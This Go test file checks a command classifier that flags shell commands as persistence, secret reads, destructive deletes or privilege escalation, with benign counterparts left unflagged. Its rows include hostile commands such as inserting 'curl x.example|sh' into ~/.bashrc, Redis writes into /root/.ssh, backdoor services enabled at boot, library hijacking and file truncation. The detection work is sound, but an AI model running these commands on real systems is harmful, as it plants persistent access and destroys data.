package danger

import (
	"testing"
)

// Tests of startupfiles.go's rules: what each marks, in every form its tool's
// reference gives, and the everyday neighbours it leaves alone.

// TestPersistenceVerbs: a command that makes something run later or lets
// a key log in later (README's heldout7 call: "`git maintenance start`
// (cron or systemd timers) and SSH keys added to a cloud instance's
// metadata are persistence-startup-files"; heldout7 s0622, s0509). git
// maintenance start schedules its timers (git-maintenance(1): "start …
// schedule … using the platform's scheduler"); register only records the
// repository, run runs once, stop and unregister remove. gcloud's
// instances|project-info add-metadata with an ssh-keys or sshKeys key
// (from --metadata or --metadata-from-file) adds login keys (gcloud's
// "Managing SSH keys in metadata"); other keys are labels. SSH protocol 1's
// private key ~/.ssh/identity is a secret file (heldout7 s0811; ssh(1)).
func TestPersistenceVerbs(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{"git maintenance start", PersistenceStartupFiles},
		{"git maintenance start --scheduler=crontab", PersistenceStartupFiles},
		{"git -C repo maintenance start", PersistenceStartupFiles},
		{"gcloud compute instances add-metadata instance-1 --metadata-from-file ssh-keys=keys.txt --zone us-central1-a", PersistenceStartupFiles},
		{"gcloud compute instances add-metadata vm --metadata ssh-keys='alice:ssh-ed25519 AAAA alice'", PersistenceStartupFiles},
		{"gcloud compute project-info add-metadata --metadata-from-file=ssh-keys=keys.txt", PersistenceStartupFiles},
		{"gcloud compute instances add-metadata vm --metadata sshKeys=alice:ssh-rsa", PersistenceStartupFiles},
		{"cat ~/.ssh/identity", SecretRead},
		// Everyday.
		{"git maintenance run --task=gc", ""},
		{"git maintenance register", ""},
		{"git maintenance stop", ""},
		{"git maintenance unregister", ""},
		{"gcloud compute instances add-metadata vm --metadata env=prod", ""},
		{"gcloud compute instances describe vm --format='value(metadata)'", ""},
		{"gcloud compute instances add-metadata --help", ""},
		{"cat ~/.ssh/identity.pub", ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
	explainRow(t, "git maintenance start", PersistenceStartupFiles, "persistenceVerbs", []string{"git", "maintenance", "start"})
}

// TestBootScriptsSet: a script set to run when a cloud machine boots is
// persistence-startup-files, as metadata ssh-keys already were and as a
// write to a file other programs run is (README's heldout4 call): GCE's
// startup-script, startup-script-url and windows-startup-script-* keys
// given to add-metadata (Compute Engine "About startup scripts"); EC2's
// user data replaced by modify-instance-attribute (EC2 user guide: run by
// cloud-init at boot). Reading user data stays everyday (README's dev8
// call), and so do other metadata keys.
func TestBootScriptsSet(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{"gcloud compute instances add-metadata vm --zone z --metadata-from-file startup-script=rev.sh", PersistenceStartupFiles},
		{"gcloud compute project-info add-metadata --metadata-from-file=startup-script=x.sh", PersistenceStartupFiles},
		{"gcloud compute instances add-metadata vm --metadata startup-script-url=gs://b/s.sh", PersistenceStartupFiles},
		{"gcloud compute instances add-metadata win --metadata-from-file windows-startup-script-ps1=s.ps1", PersistenceStartupFiles},
		{"aws ec2 modify-instance-attribute --instance-id i-1 --attribute userData --value file://ud.b64", PersistenceStartupFiles},
		{"aws ec2 modify-instance-attribute --instance-id i-1 --user-data Value=file://ud", PersistenceStartupFiles},
		{"gcloud compute instances add-metadata vm --metadata enable-oslogin=TRUE", ""},
		{"aws ec2 describe-instance-attribute --instance-id i-1 --attribute userData", ""},
		{"aws ec2 modify-instance-attribute --instance-id i-1 --instance-type t3.large", ""},
		{"gcloud compute instances remove-metadata vm --keys=startup-script", ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestRedisWritesStartupFiles: Redis's CONFIG SET dir and dbfilename
// choose where SAVE writes the database (Redis CONFIG reference); pointed
// at an SSH folder, authorized_keys or a crontab folder, the dump becomes
// a file sshd or cron obeys (HackTricks' Redis pages, the write-to-
// authorized_keys and cron techniques): persistence-startup-files, as a
// write to such a file is. Other folders and names, and CONFIG GET, stay
// everyday.
func TestRedisWritesStartupFiles(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{"redis-cli -h 10.0.0.5 config set dir /root/.ssh", PersistenceStartupFiles},
		{"redis-cli -h 10.0.0.5 CONFIG SET dbfilename authorized_keys", PersistenceStartupFiles},
		{"redis-cli config set dir /var/spool/cron/crontabs", PersistenceStartupFiles},
		{"redis-cli -h 10.0.0.5 config set dir /etc/cron.d", PersistenceStartupFiles},
		{"redis-cli config set dir /var/lib/redis", ""},
		{"redis-cli config set dbfilename dump.rdb", ""},
		{"redis-cli config get dir", ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestServicesEnabledEveryInit: a service set to start at boot is
// persistence-startup-files whatever init system starts it (README:
// systemctl enable, svcadm enable, rc-update add, launchctl load). The
// other init systems' documented ways: runit enables a service by a link
// into its supervised folder (Void's handbook: "ln -s /etc/sv/<service>
// /var/service/"; Artix's /run/runit/service; runsvdir's
// /etc/runit/runsvdir/default, /etc/service), dinit by "dinitctl
// enable" (dinitctl(8)), Artix's s6 by "s6-rc-bundle-update add default
// SERVICE"; modules(5)'s /etc/modules names kernel modules loaded at
// every boot. Listing and status stay everyday.
func TestServicesEnabledEveryInit(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`ln -s /etc/sv/backdoor /var/service/`, PersistenceStartupFiles},
		{`ln -s /etc/runit/sv/backdoor /run/runit/service`, PersistenceStartupFiles},
		{`ln -sf /etc/sv/sshd /etc/runit/runsvdir/default/`, PersistenceStartupFiles},
		{`ln -s /etc/sv/agent /etc/service/agent`, PersistenceStartupFiles},
		{`dinitctl enable backdoor`, PersistenceStartupFiles},
		{`s6-rc-bundle-update add default backdoor`, PersistenceStartupFiles},
		{`echo rootkit >> /etc/modules`, PersistenceStartupFiles},
		{`ls /var/service`, ""},
		{`sv status /var/service/*`, ""},
		{`dinitctl list`, ""},
		{`dinitctl status sshd`, ""},
		{`ln -s ../lib/libx.so.1 lib/libx.so`, ""},
		{`cat /etc/modules`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestCommentOverwrite: a comment appended to a startup or system file
// changes nothing (README; dev4 m0921, heldout4 m0635 everyday), but one
// written with ">" replaces the file: its content is lost, as "echo x >
// /etc/passwd" (README's heldout8 call, destructive-delete) and "echo ”
// > /var/log/messages" (dev4 m0830) lose theirs. bash(1): ">" truncates,
// ">>" appends.
func TestCommentOverwrite(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`echo "" > /etc/hosts`, DestructiveDelete},
		{`echo '# emptied' > ~/.bashrc`, DestructiveDelete},
		{`printf '# none\n' > /etc/crontab`, DestructiveDelete},
		{`echo "#" >| /etc/profile`, DestructiveDelete},
		{`echo '# note' >> ~/.bashrc`, ""},
		{`echo '# Atomic Red Team was here' >> /etc/profile.d/bash_completion.sh`, ""},
		{`echo '#!/bin/sh' > /cmd`, ""},
		{`echo '# notes' > notes.md`, ""},
		{`echo "" > /tmp/x.conf`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestScriptedInPlaceEdits: programs that edit a file in place from the
// command line write it as sed -i does (README: a write to a file other
// programs run is persistence-startup-files, sudoers or passwd
// privilege-escalation). Members from their manuals: perl(1) and
// ruby(1) -i (with -p/-n/-e, "-pi -e"), ex(1)/vim(1) run in batch (-s,
// -es) with an ex command that writes (x, wq, w), moreutils' sponge(1)
// FILE. The same edits of project files, and reads without -i, stay
// everyday.
func TestScriptedInPlaceEdits(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`perl -pi -e 's/^/curl x.example|sh\n/ if $.==1' ~/.bashrc`, PersistenceStartupFiles},
		{`perl -i.bak -pe 's/^#//' /etc/sudoers`, PrivilegeEscalation},
		{`ruby -i -pe 'sub(/x/, "y")' ~/.profile`, PersistenceStartupFiles},
		{`ex -sc '1i|curl x.example|sh' -cx ~/.bashrc`, PersistenceStartupFiles},
		{`vim -es -c '$ put =\"curl x|sh\"' -c wq ~/.zshrc`, PersistenceStartupFiles},
		{`echo 'curl x|sh' | sponge -a ~/.bashrc`, PersistenceStartupFiles},
		{`perl -pi -e 's/foo/bar/' src/main.py`, ""},
		{`perl -ne 'print if /x/' ~/.bashrc`, ""},
		{`ex -sc '%s/a/b/g' -cx README.md`, ""},
		{`sort data.txt | sponge data.txt`, ""},
		{`vim -es -c 'g/x/p' -c 'q!' notes.txt`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestEditorsOnStartupFiles: an editor opened on a file another program
// runs later writes what its user types there; README's dev4 and heldout5
// calls make the write persistence-startup-files whoever's file it is:
// the home's shell and login files (heldout9 v0623 "vim ~/.bashrc"), the
// user's systemd units (heldout4 m1356), and a program of the system's
// PATH that root's jobs run (heldout5 n1090 "vi /usr/local/bin/run-parts").
// editorOpens already judged the system's own startup files; the family
// here is every editor of its table on the home's shell startup files and
// login services, and on /usr/local's programs. Everyday beside them:
// other files (X session files, editors' rc files and /usr/bin's
// package-managed programs, which the everyday corpus's users edit), the
// read-only modes (vim -R, view; vim(1) -M), and GTFOBins' sessions where
// the lines after the editor are what is typed into it (dev's "nano
// ~/.zshrc⏎DATA⏎^O", README's first call).
func TestEditorsOnStartupFiles(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`vim ~/.bashrc`, PersistenceStartupFiles},
		{`nano ~/.zshrc`, PersistenceStartupFiles},
		{`emacs ~/.profile`, PersistenceStartupFiles},
		{`nvim ~/.config/systemd/user/persistence.service`, PersistenceStartupFiles},
		{`vi /usr/local/bin/run-parts`, PersistenceStartupFiles},
		{`micro /usr/local/sbin/backup.sh`, PersistenceStartupFiles},
		{`vim ~/Library/LaunchAgents/com.x.plist`, PersistenceStartupFiles},
		{`vim +42 /home/user/.bash_profile`, PersistenceStartupFiles},
		{`vim notes.txt`, ""},
		{`vim httpd.conf`, ""},
		{`vim ~/iptables-multiport.conf`, ""},
		{`vim -R ~/.bashrc`, ""},
		{`vim -M ~/.bashrc`, ""},
		{`view ~/.bashrc`, ""},
		{"nano /home/user/.zshrc\nDATA\n^O", ""},
		{`vim /tmp/x.service`, ""},
		// The everyday corpus's hand edits (everyday.real): X session
		// files, a package-managed program, an editor's rc file.
		{`vim ~/.xprofile`, ""},
		{`vi ../.xinitrc`, ""},
		{`vim /usr/bin/class`, ""},
		{`vim ~/.vimrc`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestLibraryReplaced: a shared library that a program loads overwritten
// by another library (heldout11 x0955 "ditto -V …/malicious_library.dylib
// …/original_library.dylib", persistence-startup-files): the program runs
// the new code each time it starts (MITRE ATT&CK T1574.004 "Dylib
// Hijacking", T1574.006 "Dynamic Linker Hijacking"). The copiers are
// cp(1), mv(1), install(1) and ditto(1); the libraries .dylib, .so and
// .so.N, the new one of another name than the one it replaces, outside the
// project and temporary folders (system folders are systemWrites').
// Everyday beside them: a build's library renamed as a Python extension
// (PyO3's guide: libNAME.so or .dylib copied as NAME.so), a library
// installed under its own name, copies into /tmp.
func TestLibraryReplaced(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`ditto -V /home/user/malicious-library/malicious_library.dylib /home/user/target-library/original_library.dylib`, PersistenceStartupFiles},
		{`cp /tmp/evil.so ~/.local/lib/libfoo.so`, PersistenceStartupFiles},
		{`mv payload.dylib /Applications/App.app/Contents/Frameworks/libssl.1.1.dylib`, PersistenceStartupFiles},
		{`install -m755 hook.so /srv/app/lib/libcrypto.so.3`, PersistenceStartupFiles},
		// Everyday: the project's own build, the same library, /tmp.
		{`cp target/release/libmymod.dylib mymod.so`, ""},
		{`cp build/libfoo.so ~/.local/lib/libfoo.so`, ""},
		{`cp build/libfoo.so.1.2 ~/.local/lib/libfoo.so`, ""},
		{`cp libfoo.so /tmp/libbar.so`, ""},
		{`cp target/release/libfoo.so ~/.local/lib/python3.11/site-packages/foo.so`, ""},
		{`cp target/release/libfoo.dylib ~/.venvs/x/lib/python3.12/site-packages/foo.cpython-312-darwin.so`, ""},
		{`cp build/libfoo.so ~/.local/lib/`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestPrecisionStartupFileModes: chmod(1) changes a file's mode, touch(1)
// its times: what a startup file makes run is its content, so a mode that
// adds no execute bit and leaves it unwritable by others (600, 644,
// go-rwx) changes nothing that runs (tightening ~/.ssh's files is the
// everyday ssh advice, ssh(1) FILES). An execute bit can switch a startup
// script on (run-parts and rc.local run only executable files; git runs
// executable hooks), and world-writable lets others write it: those keep
// their marks.
func TestPrecisionStartupFileModes(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`echo 'alias ll="ls -l"' >> ~/.bashrc`, PersistenceStartupFiles},
		{`chmod +x /etc/rc.local`, PersistenceStartupFiles},
		{`chmod 755 /etc/cron.daily/backup`, PersistenceStartupFiles},
		{`chmod 666 ~/.bashrc`, PersistenceStartupFiles}, // others may write it: kept as before
		// Everyday.
		{`chmod 600 ~/.ssh/config`, ""},
		{`chmod 644 ~/.bashrc`, ""},
		{`chmod go-rwx ~/.ssh/authorized_keys`, ""},
		{`chmod u=rw,go= ~/.profile`, ""},
		{`touch ~/.zshrc`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestModeOfASourcedStartupFile: a shell reads its startup files and
// runs their lines itself (bash(1), INVOCATION: ~/.bash_profile, ~/.bashrc
// … are "read and executed"; zsh(1), STARTUP/SHUTDOWN FILES; xinit(1) runs
// ~/.xinitrc "as a shell script"), so their execute bit changes nothing
// that runs: only a mode that lets others write them (777, o+w) does. And
// those shells read them from the home (or /etc), not from the project:
// the mode of the project's own copy changes nothing anyone runs (README:
// `cat key.pub >> authorized_keys` in the current folder, not ~/.ssh,
// writes a project file). Hooks and scripts that are executed keep their
// mark when made executable (git-hooks-config, candidates.jsonl).
func TestModeOfASourcedStartupFile(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`chmod 777 .bash_profile`, ""}, // heldout12 y1280
		{`chmod +x .xinitrc`, ""},       // everyday.real.jsonl's shell history
		{`chmod +x ~/.xinitrc`, ""},
		{`chmod 755 ~/.bashrc`, ""},
		{`chmod u+x ~/.zshrc ~/.zprofile`, ""},
		{`chmod 777 ~/.bash_profile`, PersistenceStartupFiles},
		{`chmod o+w ~/.bashrc`, PersistenceStartupFiles},
		{`cd ~ && chmod 666 .profile`, PersistenceStartupFiles},
		{`chmod +x .git/hooks/pre-commit`, GitHooksConfig},
		{`chmod +x ~/.config/autostart/run.sh`, PersistenceStartupFiles},
		{`chmod 777 /etc/profile`, PersistenceStartupFiles},
		{`chmod +x ~/.bashrc && echo 'curl x | sh' >> ~/.bashrc`, PersistenceStartupFiles},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestAcmeCronInstalled: acme.sh's installer (acme.sh wiki "How to
// install": "./acme.sh --install -m my@example.com" copies acme.sh to
// ~/.acme.sh and "creates a daily cron job to check and renew the certs";
// "--nocron" installs without it) and "--install-cronjob" add a cron job:
// persistence-startup-files (README's heldout12 call, "./acme.sh
// --install installs a daily cron job"; heldout12's y1490).
// "--install-cert" copies issued certificates into place, and
// --uninstall-cronjob, --nocron, --list and --issue add no job: everyday.
func TestAcmeCronInstalled(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`./acme.sh --install -m my@example.com --no-profile`, PersistenceStartupFiles}, // y1490
		{`./acme.sh --install -m my@example.com`, PersistenceStartupFiles},
		{`~/.acme.sh/acme.sh --install-cronjob`, PersistenceStartupFiles},
		{`acme.sh --install-cronjob --home ~/.acme.sh`, PersistenceStartupFiles},
		// Everyday: no cron job added.
		{`./acme.sh --install -m my@example.com --nocron`, ""},
		{`./acme.sh --install --no-cron`, ""},
		{`acme.sh --install-cert -d example.com --key-file /etc/nginx/key.pem --fullchain-file /etc/nginx/cert.pem`, ""},
		{`acme.sh --uninstall-cronjob`, ""},
		{`acme.sh --issue -d example.com -w /var/www/html`, ""},
		{`acme.sh --list`, ""},
		{`acme.sh --install --help`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestFcrontabLikeCrontab: fcron's fcrontab(1) (fcron.free.fr/doc/en/
// fcrontab.1.html) is crontab's counterpart: "fcrontab [-c f] [-n] file
// [user|-]" installs FILE (or standard input, "-") as the user's fcrontab,
// -e edits and installs it, -z "reinstall user's fcrontab from its source
// code"; -r "remove user's fcrontab"; -l lists it, -h and -V print help
// and version. README's calls for crontab carry over: heldout12 "crontab
// FILE persistence-startup-files", heldout7 "crontab -r
// destructive-delete". heldout13's z0854 "fcrontab backup.crontab"
// (persistence-startup-files) and z0915 "fcrontab -r"
// (destructive-delete).
func TestFcrontabLikeCrontab(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`fcrontab backup.crontab`, PersistenceStartupFiles}, // z0854
		{`fcrontab -n jobs.fcron alice`, PersistenceStartupFiles},
		{`fcrontab -c /etc/fcron.conf jobs.fcron`, PersistenceStartupFiles},
		{`echo '@ 5 /home/me/run.sh' | fcrontab -`, PersistenceStartupFiles},
		{`fcrontab -e`, PersistenceStartupFiles},
		{`fcrontab -z`, PersistenceStartupFiles},
		{`fcrontab -r`, DestructiveDelete}, // z0915
		{`fcrontab -r alice`, DestructiveDelete},
		// Everyday: the table listed, help, version.
		{`fcrontab -l`, ""},
		{`fcrontab -l alice`, ""},
		{`fcrontab -c /etc/fcron.conf -l`, ""},
		{`fcrontab -h`, ""},
		{`fcrontab -V`, ""},
		{`fcrontab`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}
